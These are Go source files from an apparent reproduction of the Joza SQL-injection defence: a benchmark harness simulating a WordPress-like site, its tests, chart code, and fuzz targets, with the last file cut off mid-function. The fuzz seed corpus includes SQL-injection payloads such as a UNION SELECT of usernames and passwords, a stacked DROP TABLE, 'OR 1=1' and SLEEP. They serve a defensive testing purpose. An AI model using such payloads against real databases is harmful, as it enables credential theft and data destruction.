	if !strings.Contains(out, "50%w") || !strings.Contains(out, "trend") {
		t.Errorf("out = %q", out)
	}
}

func TestDurationMs(t *testing.T) {
	if durationMs(1500*time.Microsecond) != 1.5 {
		t.Error("durationMs")
	}
}
