package workload

import (
	"strings"
	"testing"

	"joza/internal/pti"
)

func newSite(t *testing.T) *Site {
	t.Helper()
	site, err := NewSite(50, 1)
	if err != nil {
		t.Fatal(err)
	}
	return site
}

func TestSiteSeeding(t *testing.T) {
	site := newSite(t)
	res, err := site.DB.Exec("SELECT COUNT(*) FROM posts")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != int64(50) {
		t.Errorf("posts = %v", res.Rows[0][0])
	}
	if site.Fragments.Len() == 0 {
		t.Error("no fragments extracted")
	}
}

func TestRequestGeneration(t *testing.T) {
	site := newSite(t)
	read := site.NextRequest(Read)
	if read.Kind != Read || len(read.Events) != 5 {
		t.Errorf("read = %+v", read)
	}
	write := site.NextRequest(Write)
	if write.Kind != Write || len(write.Events) != 4 {
		t.Errorf("write = %+v", write)
	}
	hasInsert := false
	for _, ev := range write.Events {
		if strings.HasPrefix(ev.Query, "INSERT") {
			hasInsert = true
		}
	}
	if !hasInsert {
		t.Error("write request has no INSERT")
	}
	search := site.NextRequest(Search)
	if search.Kind != Search || !strings.Contains(search.Events[1].Query, "LIKE") {
		t.Errorf("search = %+v", search)
	}
}

func TestRunRequestsPlain(t *testing.T) {
	site := newSite(t)
	reqs := site.GenerateRequests(Read, 20)
	tm, err := RunRequests(site, reqs, nil)
	if err != nil {
		t.Fatal(err)
	}
	if tm.Requests != 20 || tm.Queries != 100 {
		t.Errorf("timing = %+v", tm)
	}
	if tm.PTI != 0 || tm.NTI != 0 {
		t.Error("plain run must not spend analyzer time")
	}
	if tm.PerRequest() <= 0 {
		t.Error("per-request time must be positive")
	}
}

func TestRunRequestsProtectedNoFalsePositives(t *testing.T) {
	site := newSite(t)
	for _, remote := range []bool{false, true} {
		prot, stop := NewProtection("t", site,
			PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: remote}, true)
		for _, kind := range []RequestKind{Read, Write, Search} {
			reqs := site.GenerateRequests(kind, 15)
			tm, err := RunRequests(site, reqs, prot)
			if err != nil {
				t.Fatalf("remote=%v kind=%v: %v", remote, kind, err)
			}
			if tm.PTI == 0 {
				t.Errorf("remote=%v kind=%v: no PTI time recorded", remote, kind)
			}
			if tm.NTI == 0 {
				t.Errorf("remote=%v kind=%v: no NTI time recorded", remote, kind)
			}
		}
		stop()
	}
}

func TestUnoptimizedVariantWorks(t *testing.T) {
	site := newSite(t)
	prot, stop := NewProtection("naive", site,
		PTIVariant{NoParseFirst: true, NoMRU: true, Cache: pti.CacheNone}, false)
	defer stop()
	reqs := site.GenerateRequests(Read, 5)
	if _, err := RunRequests(site, reqs, prot); err != nil {
		t.Fatal(err)
	}
}

func TestMixKinds(t *testing.T) {
	m := Mix{WriteFraction: 0.1}
	writes := 0
	for i := 1; i <= 100; i++ {
		if m.kindAt(i) == Write {
			writes++
		}
	}
	if writes != 10 {
		t.Errorf("writes = %d, want 10", writes)
	}
	if (Mix{}).kindAt(5) != Read {
		t.Error("zero mix must be all reads")
	}
}

func TestOverheadPercent(t *testing.T) {
	plain := Timing{Requests: 10, Total: 1000}
	prot := Timing{Requests: 10, Total: 1100}
	got := OverheadPercent(prot, plain)
	if got < 9.9 || got > 10.1 {
		t.Errorf("overhead = %v", got)
	}
	if OverheadPercent(prot, Timing{}) != 0 {
		t.Error("zero baseline must yield 0")
	}
}

func TestTable5SmallRun(t *testing.T) {
	site := newSite(t)
	res, err := RunTable5(site, 30)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 4 {
		t.Fatalf("rows = %d", len(res.Rows))
	}
	out := res.Format()
	if !strings.Contains(out, "TABLE V") || !strings.Contains(out, "query cache") {
		t.Errorf("format = %q", out)
	}
}

func TestTable6SmallRun(t *testing.T) {
	site := newSite(t)
	rows, err := RunTable6(site, 40)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	if rows[0].WritePct != 50 || rows[3].WritePct != 1 {
		t.Errorf("mixes = %+v", rows)
	}
	out := FormatTable6(rows)
	if !strings.Contains(out, "TABLE VI") {
		t.Errorf("format = %q", out)
	}
}

func TestTable7Stats(t *testing.T) {
	s := DefaultWordPressStats()
	w := s.WriteFraction()
	if w <= 0 || w >= 0.01 {
		t.Errorf("write fraction = %v, want under 1%%", w)
	}
	pred := s.PredictOverhead(4.0, 12.0)
	if pred < 4.0 || pred > 4.2 {
		t.Errorf("predicted overhead = %v", pred)
	}
	out := FormatTable7(s, 4.0, 12.0)
	if !strings.Contains(out, "TABLE VII") || !strings.Contains(out, "predicted overhead") {
		t.Errorf("format = %q", out)
	}
	if (WordPressStats{}).WriteFraction() != 0 {
		t.Error("zero stats must yield 0")
	}
}

func TestFigure7ShapeHolds(t *testing.T) {
	site := newSite(t)
	bars, err := RunFigure7(site, 40)
	if err != nil {
		t.Fatal(err)
	}
	if len(bars) != 2 {
		t.Fatalf("bars = %d", len(bars))
	}
	// The optimized daemon must spend substantially less PTI time than
	// the unoptimized configuration (the paper reports −66%).
	if bars[1].PTIProcessing*2 >= bars[0].PTIProcessing {
		t.Errorf("optimized PTI %v not <50%% of unoptimized %v",
			bars[1].PTIProcessing, bars[0].PTIProcessing)
	}
	out := FormatFigure7(bars)
	if !strings.Contains(out, "FIGURE 7") || !strings.Contains(out, "reduce PTI processing") {
		t.Errorf("format = %q", out)
	}
}

func TestFigure8SmallRun(t *testing.T) {
	site := newSite(t)
	rows, err := RunFigure8(site, 30)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	out := FormatFigure8(rows)
	for _, want := range []string{"FIGURE 8", "read", "write", "search"} {
		if !strings.Contains(out, want) {
			t.Errorf("format missing %q: %q", want, out)
		}
	}
}

func TestRequestKindString(t *testing.T) {
	if Read.String() != "read" || Write.String() != "write" ||
		Search.String() != "search" || RequestKind(0).String() != "unknown" {
		t.Error("RequestKind.String mismatch")
	}
}

func TestNewSiteDefaults(t *testing.T) {
	site, err := NewSite(0, 2)
	if err != nil {
		t.Fatal(err)
	}
	if site.NumURLs != 1001 {
		t.Errorf("NumURLs = %d", site.NumURLs)
	}
}

func TestSpawnPerRequestVariant(t *testing.T) {
	site := newSite(t)
	prot, stop := NewProtection("spawn", site,
		PTIVariant{SpawnPerRequest: true, Cache: pti.CacheNone}, false)
	defer stop()
	reqs := site.GenerateRequests(Read, 10)
	tm, err := RunRequests(site, reqs, prot)
	if err != nil {
		t.Fatal(err)
	}
	if tm.PTI == 0 {
		t.Error("spawn-per-request must record PTI-side time")
	}
	// Compare against the long-lived daemon: spawning per request costs
	// strictly more PTI time for the same work.
	longLived, stop2 := NewProtection("daemon", site,
		PTIVariant{Remote: true, Cache: pti.CacheNone}, false)
	defer stop2()
	tm2, err := RunRequests(site, reqs, longLived)
	if err != nil {
		t.Fatal(err)
	}
	if tm.PTI <= tm2.PTI/2 {
		t.Errorf("spawn-per-request PTI %v unexpectedly cheaper than long-lived %v", tm.PTI, tm2.PTI)
	}
}
