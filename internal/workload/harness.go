package workload

import (
	"fmt"
	"sync"
	"time"

	"joza/internal/daemon"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/sqlparse"
	"joza/internal/sqltoken"
)

// Protection is one measured configuration: a PTI transport (nil for the
// unprotected baseline), an optional NTI analyzer, client-side caches and
// a label.
type Protection struct {
	Name string
	// Transport carries PTI analysis; nil disables PTI.
	Transport daemon.Transport
	// NTI is the in-application analyzer; nil disables NTI.
	NTI *nti.Analyzer
	// cache is the application-side PTI verdict cache. Per Section IV-C
	// the query cache lives with the application, so a hit skips the
	// daemon round trip entirely.
	cache *clientCache
	// spawner, when set, creates (and tears down) a fresh daemon per
	// request — the paper's unoptimized deployment.
	spawner func() (daemon.Transport, func())
}

// Close releases the protection's transport.
func (p *Protection) Close() {
	if p != nil && p.Transport != nil {
		_ = p.Transport.Close()
	}
}

// clientCache is the application-side safe-verdict cache: an exact-query
// map plus an optional structure-key map. Only safe verdicts are stored.
type clientCache struct {
	mu        sync.Mutex
	cap       int
	queries   map[string]bool
	structure map[string]bool // nil when structure caching is off
}

func newClientCache(mode pti.CacheMode, capacity int) *clientCache {
	if mode == pti.CacheNone || mode == 0 {
		return nil
	}
	c := &clientCache{cap: capacity, queries: make(map[string]bool, capacity)}
	if mode == pti.CacheQueryAndStructure {
		c.structure = make(map[string]bool, capacity)
	}
	return c
}

// lookup reports whether the query has a cached safe verdict.
func (c *clientCache) lookup(query string) bool {
	if c == nil {
		return false
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.queries[query] {
		return true
	}
	if c.structure != nil && c.structure[sqlparse.StructureKey(query)] {
		c.queries[query] = true
		return true
	}
	return false
}

// store records a safe verdict.
func (c *clientCache) store(query string) {
	if c == nil {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.queries) < c.cap {
		c.queries[query] = true
	}
	if c.structure != nil && len(c.structure) < c.cap {
		c.structure[sqlparse.StructureKey(query)] = true
	}
}

// PTIVariant selects how the PTI analyzer and its deployment are built.
// The paper's optimized daemon is the zero value plus Remote and a cache
// mode: per-fragment scan matching with MRU and parse-first (Aho–Corasick
// is this reproduction's own ablation, exercised in the benchmarks).
type PTIVariant struct {
	// AhoCorasick switches from the paper's per-fragment scan to the AC
	// automaton (ablation).
	AhoCorasick bool
	// NoParseFirst disables the parse-first optimization.
	NoParseFirst bool
	// NoMRU disables the MRU fragment cache.
	NoMRU bool
	// Cache selects the application-side cache mode.
	Cache pti.CacheMode
	// Remote routes analysis through an in-memory pipe daemon instead of
	// a direct in-process call (the "extension estimate").
	Remote bool
	// SpawnPerRequest launches a fresh daemon for every request, the
	// paper's initial unoptimized implementation ("initiated a new
	// process"); implies Remote.
	SpawnPerRequest bool
}

// buildAnalyzer constructs the PTI analyzer for a variant. Caching happens
// client-side, so the analyzer itself is uncached.
func (v PTIVariant) buildAnalyzer(site *Site) *pti.Cached {
	var opts []pti.Option
	if !v.AhoCorasick {
		opts = append(opts, pti.WithNaiveMatcher())
	}
	if v.NoParseFirst {
		opts = append(opts, pti.WithoutParseFirst())
	}
	if v.NoMRU {
		opts = append(opts, pti.WithoutMRU())
	}
	return pti.NewCached(pti.New(site.Fragments, opts...), pti.CacheNone, 1)
}

// NewProtection assembles a measured configuration. stop must be called
// when done (it shuts down a pipe daemon when Remote is set).
func NewProtection(name string, site *Site, v PTIVariant, withNTI bool) (prot *Protection, stop func()) {
	analyzer := v.buildAnalyzer(site)
	var transport daemon.Transport
	stop = func() {}
	switch {
	case v.SpawnPerRequest:
		// Each request spawns a daemon over a fresh pipe and tears it
		// down afterwards; RunRequests drives the lifecycle via
		// perRequestSpawner.
		transport = nil
	case v.Remote:
		client, s := daemon.SpawnPipe(analyzer)
		transport = client
		stop = s
	default:
		transport = daemon.NewDirect(analyzer)
	}
	p := &Protection{
		Name:      name,
		Transport: transport,
		cache:     newClientCache(v.Cache, 16384),
	}
	if v.SpawnPerRequest {
		p.spawner = func() (daemon.Transport, func()) {
			c, s := daemon.SpawnPipe(analyzer)
			return c, s
		}
	}
	if withNTI {
		p.NTI = nti.MustNew()
	}
	return p, stop
}

// Timing aggregates the cost of a measured run, broken down by component
// (the Figure 7/8 decomposition).
type Timing struct {
	Requests int
	Queries  int
	// Total is wall time across all requests.
	Total time.Duration
	// DB is time spent executing statements.
	DB time.Duration
	// Render is simulated application (template/interpreter) time.
	Render time.Duration
	// PTI is time spent in PTI analysis, including cache lookups and IPC
	// for remote transports.
	PTI time.Duration
	// NTI is time spent in NTI analysis.
	NTI time.Duration
	// CacheHits counts queries answered from the client-side cache.
	CacheHits int
}

// PerRequest returns the mean request time.
func (t Timing) PerRequest() time.Duration {
	if t.Requests == 0 {
		return 0
	}
	return t.Total / time.Duration(t.Requests)
}

// OverheadPercent returns (protected − plain)/plain in percent.
func OverheadPercent(protected, plain Timing) float64 {
	b := plain.PerRequest().Seconds()
	if b == 0 {
		return 0
	}
	return (protected.PerRequest().Seconds() - b) / b * 100
}

// Mix is a read/write workload mix.
type Mix struct {
	// WriteFraction is the proportion of write requests (0..1); the rest
	// are reads.
	WriteFraction float64
}

// kindAt deterministically interleaves writes at the configured fraction.
func (m Mix) kindAt(i int) RequestKind {
	if m.WriteFraction <= 0 {
		return Read
	}
	period := int(1 / m.WriteFraction)
	if period < 1 {
		period = 1
	}
	if i%period == 0 {
		return Write
	}
	return Read
}

// renderSink defeats dead-code elimination of the simulated render work.
var renderSink uint64

// simulateRender models the application work of one request (PHP template
// rendering and interpretation), which dominates real request cost — the
// paper's plain read request takes ~0.22s on its testbed. Without it the
// in-memory database substrate would make every request nearly free and
// relative overheads meaningless.
func simulateRender(iters int) time.Duration {
	start := time.Now()
	x := renderSink | 1
	for i := 0; i < iters; i++ {
		x = x*1103515245 + 12345
	}
	renderSink = x
	return time.Since(start)
}

// RunRequests executes pre-generated requests under a protection (nil
// protection = plain) and returns the timing breakdown.
func RunRequests(site *Site, reqs []*Request, prot *Protection) (Timing, error) {
	var tm Timing
	start := time.Now()
	for _, req := range reqs {
		tm.Requests++
		transport := daemon.Transport(nil)
		requestStop := func() {}
		if prot != nil {
			transport = prot.Transport
			if prot.spawner != nil {
				t0 := time.Now()
				transport, requestStop = prot.spawner()
				tm.PTI += time.Since(t0) // daemon spawn is PTI-side cost
			}
		}
		for _, ev := range req.Events {
			tm.Queries++
			if prot != nil && transport != nil {
				t0 := time.Now()
				var reply *daemon.AnalysisReply
				if prot.cache.lookup(ev.Query) {
					tm.CacheHits++
				} else {
					var err error
					reply, err = transport.Analyze(ev.Query)
					if err != nil {
						requestStop()
						return tm, fmt.Errorf("pti: %w", err)
					}
					if reply.Attack {
						return tm, fmt.Errorf("benign workload flagged: %q", ev.Query)
					}
					prot.cache.store(ev.Query)
				}
				tm.PTI += time.Since(t0)
				if prot.NTI != nil {
					// NTI reuses the daemon's token stream when the query
					// was not answered from the cache (Section IV-D).
					t1 := time.Now()
					var toks []sqltoken.Token
					if reply != nil {
						toks = reply.TokenStream()
					}
					res := prot.NTI.Analyze(ev.Query, toks, ev.Inputs)
					tm.NTI += time.Since(t1)
					if res.Attack {
						return tm, fmt.Errorf("benign workload flagged by NTI: %q", ev.Query)
					}
				}
			} else if prot != nil && prot.NTI != nil {
				t1 := time.Now()
				res := prot.NTI.Analyze(ev.Query, nil, ev.Inputs)
				tm.NTI += time.Since(t1)
				if res.Attack {
					return tm, fmt.Errorf("benign workload flagged by NTI: %q", ev.Query)
				}
			}
			t2 := time.Now()
			if _, err := site.DB.Exec(ev.Query); err != nil {
				requestStop()
				return tm, fmt.Errorf("db: %w", err)
			}
			tm.DB += time.Since(t2)
		}
		requestStop()
		tm.Render += simulateRender(site.RenderIters)
	}
	tm.Total = time.Since(start)
	return tm, nil
}

// GenerateRequests produces n requests of a fixed kind.
func (s *Site) GenerateRequests(kind RequestKind, n int) []*Request {
	out := make([]*Request, n)
	for i := range out {
		out[i] = s.NextRequest(kind)
	}
	return out
}

// GenerateMix produces n requests following the mix.
func (s *Site) GenerateMix(mix Mix, n int) []*Request {
	out := make([]*Request, n)
	for i := range out {
		out[i] = s.NextRequest(mix.kindAt(i + 1))
	}
	return out
}
