// Package workload implements the performance-evaluation harness of
// Sections VI: a WordPress-like site with read (page view), write (comment
// post) and search request generators, protection configurations spanning
// the paper's design space (cache modes, matcher optimizations, daemon vs
// in-process transport), and the measurement/report code that regenerates
// Tables V–VII and Figures 7–8.
package workload

import (
	"fmt"
	"math/rand"
	"strings"

	"joza"
	"joza/internal/fragments"
	"joza/internal/minidb"
	"joza/internal/nti"
)

// RequestKind classifies generated requests.
type RequestKind int

// Request kinds of the performance evaluation.
const (
	Read RequestKind = iota + 1
	Write
	Search
)

// String returns the kind name.
func (k RequestKind) String() string {
	switch k {
	case Read:
		return "read"
	case Write:
		return "write"
	case Search:
		return "search"
	default:
		return "unknown"
	}
}

// QueryEvent is one database statement a request issues, together with the
// raw request inputs the NTI component correlates against.
type QueryEvent struct {
	Query  string
	Inputs []nti.Input
}

// Request is the unit of measurement: one simulated HTTP request and the
// statements it issues (WordPress issues several queries per page).
type Request struct {
	Kind   RequestKind
	Events []QueryEvent
}

// siteSource is the pseudo-PHP source of the measured site; the guard's
// fragments come from here, so every benign query is fully covered.
const siteSource = `<?php
$opt    = 'SELECT name, value FROM options WHERE name=\'siteurl\'';
$opt2   = 'SELECT name, value FROM options WHERE name=\'template\'';
$post   = 'SELECT id, title, body FROM posts WHERE id=';
$cmts   = 'SELECT id, author, body FROM comments WHERE post_id=';
$ccount = 'SELECT COUNT(*) FROM comments WHERE post_id=';
$ins    = 'INSERT INTO comments (post_id, author, body) VALUES (';
$insmid = ', \'';
$instail = '\')';
$search = 'SELECT id, title FROM posts WHERE title LIKE \'%';
$searchor = '%\' OR title LIKE \'%';
$searchend = '%\' LIMIT 10';
`

// Site is the measured application: a seeded database, its fragment set
// and deterministic request generators.
type Site struct {
	DB        *minidb.DB
	Fragments *fragments.Set
	// NumURLs is the size of the crawl space (the paper used 1001 unique
	// URLs producing ~20k queries).
	NumURLs int
	// RenderIters controls the simulated per-request application work
	// (see simulateRender); the default approximates a fast PHP page.
	RenderIters int
	rng         *rand.Rand
}

// NewSite builds and seeds the site. numURLs controls the crawl space;
// seed makes generation deterministic.
func NewSite(numURLs int, seed int64) (*Site, error) {
	if numURLs < 1 {
		numURLs = 1001
	}
	db := minidb.New("wordpress")
	stmts := []string{
		"CREATE TABLE options (id INT, name TEXT, value TEXT)",
		"INSERT INTO options VALUES (1, 'siteurl', 'http://example.test'), (2, 'template', 'twentyfourteen')",
		"CREATE TABLE posts (id INT, title TEXT, body TEXT)",
		"CREATE TABLE comments (id INT, post_id INT, author TEXT, body TEXT)",
	}
	for _, q := range stmts {
		if _, err := db.Exec(q); err != nil {
			return nil, fmt.Errorf("seed: %w", err)
		}
	}
	// Seed posts for the crawl space (batched inserts).
	rng := rand.New(rand.NewSource(seed))
	const batch = 100
	for start := 1; start <= numURLs; start += batch {
		var sb strings.Builder
		sb.WriteString("INSERT INTO posts VALUES ")
		first := true
		for id := start; id < start+batch && id <= numURLs; id++ {
			if !first {
				sb.WriteString(", ")
			}
			first = false
			fmt.Fprintf(&sb, "(%d, 'Post number %d', '%s')", id, id, randWords(rng, 20))
		}
		if _, err := db.Exec(sb.String()); err != nil {
			return nil, fmt.Errorf("seed posts: %w", err)
		}
	}
	texts := joza.FragmentsFromSource(siteSource)
	texts = append(texts, corpusFragments(3000)...)
	return &Site{
		DB:          db,
		Fragments:   fragments.NewSet(texts),
		NumURLs:     numURLs,
		RenderIters: 400_000,
		rng:         rng,
	}, nil
}

// corpusFragments synthesizes the bulk of a realistic fragment vocabulary:
// WordPress plus 50 plugins yields tens of thousands of string literals,
// and the cost of the unoptimized PTI scan (Figure 7) is proportional to
// that corpus. The synthesized literals are full query skeletons, so they
// never cover individual attack tokens.
func corpusFragments(n int) []string {
	out := make([]string, 0, n)
	for i := 0; i < n; i++ {
		switch i % 4 {
		case 0:
			out = append(out, fmt.Sprintf("SELECT col_%d, col_%d FROM table_%d WHERE key_%d=", i, i+1, i, i))
		case 1:
			out = append(out, fmt.Sprintf("UPDATE table_%d SET col_%d=", i, i))
		case 2:
			out = append(out, fmt.Sprintf("INSERT INTO table_%d (col_%d, col_%d) VALUES (", i, i, i+1))
		default:
			out = append(out, fmt.Sprintf(" ORDER BY col_%d DESC LIMIT %d", i, i%50+1))
		}
	}
	return out
}

var words = []string{
	"lorem", "ipsum", "dolor", "amet", "consectetur", "adipiscing",
	"elit", "integer", "vitae", "sagittis", "tellus", "blog", "update",
	"release", "notes", "security", "coffee", "morning", "travel",
}

func randWords(rng *rand.Rand, n int) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = words[rng.Intn(len(words))]
	}
	return strings.Join(parts, " ")
}

// Reset restores the mutable database state (the comments written by
// write requests), so successive measurements see identical data.
func (s *Site) Reset() error {
	if _, err := s.DB.Exec("DELETE FROM comments"); err != nil {
		return err
	}
	return nil
}

// NextRequest generates the next request of the given kind.
func (s *Site) NextRequest(kind RequestKind) *Request {
	switch kind {
	case Write:
		return s.writeRequest()
	case Search:
		return s.searchRequest()
	default:
		return s.readRequest()
	}
}

// readRequest models a page view: constant option lookups plus per-post
// queries whose only variation is the post ID. With the PTI query cache a
// revisited URL costs one lookup; the structure cache covers first visits.
func (s *Site) readRequest() *Request {
	id := 1 + s.rng.Intn(s.NumURLs)
	inputs := []nti.Input{{Source: "get", Name: "p", Value: fmt.Sprint(id)}}
	return &Request{Kind: Read, Events: []QueryEvent{
		{Query: "SELECT name, value FROM options WHERE name='siteurl'", Inputs: inputs},
		{Query: "SELECT name, value FROM options WHERE name='template'", Inputs: inputs},
		{Query: fmt.Sprintf("SELECT id, title, body FROM posts WHERE id=%d", id), Inputs: inputs},
		{Query: fmt.Sprintf("SELECT id, author, body FROM comments WHERE post_id=%d", id), Inputs: inputs},
		{Query: fmt.Sprintf("SELECT COUNT(*) FROM comments WHERE post_id=%d", id), Inputs: inputs},
	}}
}

// writeRequest models posting a comment: reads plus an INSERT whose data
// values are fresh every time — the exact-query cache never hits, only the
// structure cache can.
func (s *Site) writeRequest() *Request {
	id := 1 + s.rng.Intn(s.NumURLs)
	author := words[s.rng.Intn(len(words))]
	body := randWords(s.rng, 40)
	inputs := []nti.Input{
		{Source: "get", Name: "p", Value: fmt.Sprint(id)},
		{Source: "post", Name: "author", Value: author},
		{Source: "post", Name: "comment", Value: body},
	}
	insert := fmt.Sprintf("INSERT INTO comments (post_id, author, body) VALUES (%d, '%s', '%s')",
		id, author, body)
	return &Request{Kind: Write, Events: []QueryEvent{
		{Query: "SELECT name, value FROM options WHERE name='siteurl'", Inputs: inputs},
		{Query: fmt.Sprintf("SELECT id, title, body FROM posts WHERE id=%d", id), Inputs: inputs},
		{Query: insert, Inputs: inputs},
		{Query: fmt.Sprintf("SELECT COUNT(*) FROM comments WHERE post_id=%d", id), Inputs: inputs},
	}}
}

// searchRequest models advanced search: the number of OR'd LIKE terms
// varies, so even the query-structure cache misses — the dynamically
// generated queries the paper calls out.
func (s *Site) searchRequest() *Request {
	nTerms := 1 + s.rng.Intn(3)
	terms := make([]string, nTerms)
	for i := range terms {
		terms[i] = words[s.rng.Intn(len(words))]
	}
	var sb strings.Builder
	sb.WriteString("SELECT id, title FROM posts WHERE title LIKE '%")
	sb.WriteString(terms[0])
	for _, term := range terms[1:] {
		sb.WriteString("%' OR title LIKE '%")
		sb.WriteString(term)
	}
	sb.WriteString("%' LIMIT 10")
	inputs := []nti.Input{{Source: "get", Name: "s", Value: strings.Join(terms, " ")}}
	return &Request{Kind: Search, Events: []QueryEvent{
		{Query: "SELECT name, value FROM options WHERE name='siteurl'", Inputs: inputs},
		{Query: sb.String(), Inputs: inputs},
	}}
}
