package workload

import (
	"fmt"
	"strings"
	"time"
)

// Chart renders horizontal ASCII bar charts for the figure reports, so
// cmd/jozabench output visually resembles the paper's stacked-bar figures.
type Chart struct {
	// Width is the maximum bar width in characters (default 48).
	Width int
	rows  []chartRow
}

type chartRow struct {
	label    string
	segments []chartSegment
}

type chartSegment struct {
	value float64
	glyph byte
}

// NewChart returns an empty chart.
func NewChart() *Chart { return &Chart{Width: 48} }

// AddStacked appends one stacked bar. Values and glyphs run in parallel;
// each value is one segment drawn with its glyph.
func (c *Chart) AddStacked(label string, values []float64, glyphs []byte) {
	row := chartRow{label: label}
	for i, v := range values {
		g := byte('#')
		if i < len(glyphs) {
			g = glyphs[i]
		}
		if v < 0 {
			v = 0
		}
		row.segments = append(row.segments, chartSegment{value: v, glyph: g})
	}
	c.rows = append(c.rows, row)
}

// Render draws the chart, scaling the longest bar to Width.
func (c *Chart) Render() string {
	width := c.Width
	if width <= 0 {
		width = 48
	}
	maxTotal := 0.0
	labelWidth := 0
	for _, r := range c.rows {
		total := 0.0
		for _, s := range r.segments {
			total += s.value
		}
		if total > maxTotal {
			maxTotal = total
		}
		if len(r.label) > labelWidth {
			labelWidth = len(r.label)
		}
	}
	if maxTotal == 0 {
		maxTotal = 1
	}
	var sb strings.Builder
	for _, r := range c.rows {
		fmt.Fprintf(&sb, "%-*s |", labelWidth, r.label)
		total := 0.0
		for _, s := range r.segments {
			n := int(s.value / maxTotal * float64(width))
			sb.Write(bytesRepeat(s.glyph, n))
			total += s.value
		}
		fmt.Fprintf(&sb, " %.3f\n", total)
	}
	return sb.String()
}

func bytesRepeat(b byte, n int) []byte {
	if n <= 0 {
		return nil
	}
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

// ChartFigure7 renders the Figure 7 stacked bars (app+db time vs PTI
// processing per request).
func ChartFigure7(bars []Figure7Bar) string {
	c := NewChart()
	for _, b := range bars {
		c.AddStacked(b.Config,
			[]float64{ms(b.AppDB), ms(b.PTIProcessing)},
			[]byte{'.', '#'})
	}
	return c.Render() + "legend: '.' app+db ms, '#' PTI processing ms (per request)\n"
}

// ChartFigure8 renders the Figure 8 bars: plain vs protected per request
// kind, with NTI/PTI components stacked on the protected bar.
func ChartFigure8(rows []Figure8Row) string {
	c := NewChart()
	for _, r := range rows {
		c.AddStacked(fmt.Sprintf("%s plain", r.Kind), []float64{r.PlainMs}, []byte{'.'})
		base := r.GuardedMs - r.NTIMs - r.PTIMs
		if base < 0 {
			base = 0
		}
		c.AddStacked(fmt.Sprintf("%s joza", r.Kind),
			[]float64{base, r.NTIMs, r.PTIMs},
			[]byte{'.', 'n', 'p'})
	}
	return c.Render() + "legend: '.' app+db ms, 'n' NTI ms, 'p' PTI ms (per request)\n"
}

// sparkline is a compact single-line trend, used by the mix table.
func sparkline(values []float64) string {
	if len(values) == 0 {
		return ""
	}
	glyphs := []rune("▁▂▃▄▅▆▇█")
	lo, hi := values[0], values[0]
	for _, v := range values {
		if v < lo {
			lo = v
		}
		if v > hi {
			hi = v
		}
	}
	var sb strings.Builder
	for _, v := range values {
		idx := 0
		if hi > lo {
			idx = int((v - lo) / (hi - lo) * float64(len(glyphs)-1))
		}
		sb.WriteRune(glyphs[idx])
	}
	return sb.String()
}

// SparklineTable6 summarizes the Table VI overhead trend.
func SparklineTable6(rows []Table6Row) string {
	vals := make([]float64, len(rows))
	labels := make([]string, len(rows))
	for i, r := range rows {
		vals[i] = r.Overhead
		labels[i] = fmt.Sprintf("%.0f%%w", r.WritePct)
	}
	return fmt.Sprintf("overhead trend (%s): %s\n", strings.Join(labels, " "), sparkline(vals))
}

// durationMs is exported-for-tests helper mirroring ms.
func durationMs(d time.Duration) float64 { return ms(d) }
