package joza_test

import (
	"testing"

	"joza"
	"joza/internal/minidb"
	"joza/internal/sqlparse"
	"joza/internal/sqltoken"
)

// Native Go fuzz targets. Under plain `go test` they run their seed
// corpus; under `go test -fuzz=FuzzX` they explore. Every target asserts
// the defense-grade invariant: no panic, spans in bounds.

func FuzzLex(f *testing.F) {
	for _, seed := range []string{
		"SELECT * FROM t WHERE id=1",
		"-1 UNION SELECT username, password FROM users -- -",
		"'unterminated",
		"/*unterminated",
		"\\'; DROP TABLE t; --",
		"SELECT `col` FROM `tab` WHERE x LIKE '%y%' #c",
		"\x00\xff\xfe",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		toks := sqltoken.Lex(s)
		prevEnd := 0
		for _, tok := range toks {
			if tok.Start < prevEnd || tok.End > len(s) || tok.Start >= tok.End {
				t.Fatalf("bad span %d:%d in %q", tok.Start, tok.End, s)
			}
			if s[tok.Start:tok.End] != tok.Text {
				t.Fatalf("span/text mismatch at %d:%d in %q", tok.Start, tok.End, s)
			}
			prevEnd = tok.End
		}
	})
}

func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		"SELECT a, b FROM t WHERE a=1 AND b LIKE '%x%' ORDER BY a LIMIT 5",
		"INSERT INTO t (a) VALUES (1), (2)",
		"UPDATE t SET a=1 WHERE b IN (1,2)",
		"SELECT * FROM a JOIN b ON a.id=b.id LEFT JOIN c ON c.x=a.id",
		"SELECT 1 UNION ALL SELECT 2",
		"((((",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_, _ = sqlparse.Parse(s) // must not panic
		_ = sqlparse.StructureKey(s)
	})
}

func FuzzGuardCheck(f *testing.F) {
	guard, err := joza.New(joza.WithFragments([]string{
		"SELECT * FROM records WHERE ID=",
		" LIMIT 5",
	}))
	if err != nil {
		f.Fatal(err)
	}
	f.Add("SELECT * FROM records WHERE ID=5 LIMIT 5", "5")
	f.Add("SELECT * FROM records WHERE ID=-1 OR 1=1", "-1 OR 1=1")
	f.Add("", "")
	f.Fuzz(func(t *testing.T, query, input string) {
		v := guard.Check(query, []joza.Input{{Source: "get", Name: "x", Value: input}})
		// Verdict must be internally consistent.
		if v.Attack != (v.NTI.Attack || v.PTI.Attack) {
			t.Fatal("verdict inconsistent with component results")
		}
	})
}

func FuzzMinidbExec(f *testing.F) {
	db := minidb.New("fuzz")
	db.MustExec("CREATE TABLE t (a INT, b TEXT)")
	db.MustExec("INSERT INTO t VALUES (1, 'x'), (2, 'y')")
	for _, seed := range []string{
		"SELECT * FROM t WHERE a=1 OR 1=1",
		"SELECT a, COUNT(*) FROM t GROUP BY a HAVING COUNT(*)>0",
		"INSERT INTO t VALUES (3, CONCAT('a', 'b'))",
		"SELECT * FROM t JOIN t ON 1=1",
		"SELECT SLEEP(1), IF(1,2,3)",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, q string) {
